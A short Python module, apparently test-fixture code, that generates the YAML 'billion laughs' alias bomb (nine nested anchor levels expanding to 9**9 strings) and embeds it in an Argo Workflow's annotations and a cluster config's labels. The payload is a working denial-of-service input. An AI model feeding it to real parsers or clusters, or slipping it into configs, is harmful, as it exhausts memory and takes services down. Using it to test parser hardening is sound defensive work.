"""The YAML "billion laughs": nine levels of anchors, each nine aliases of the one before."""

from __future__ import annotations

import itertools

LEVELS = "abcdefghi"


def laughs(indent: str = "    ") -> str:
    """The anchors as mapping entries at `indent`: 9**9 strings once expanded."""
    lines = [f'{indent}a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for before, level in itertools.pairwise(LEVELS):
        lines.append(f"{indent}{level}: &{level} [" + ",".join([f"*{before}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def argo_workflow() -> str:
    """An Argo Workflow whose metadata.annotations hold the laughs (about 600 bytes)."""
    return ("apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata:\n  name: lol\n"
            "  annotations:\n" + laughs() +
            "spec:\n  entrypoint: main\n  templates:\n  - name: main\n"
            "    container: {image: alpine}\n")


def cluster() -> str:
    """A cluster YAML with the laughs in a group's labels."""
    return ("name: lol\nnode_groups:\n  - name: cpu\n    count: 1\n    cpu: 4\n"
            "    memory: 16Gi\n    labels:\n" + laughs("      "))
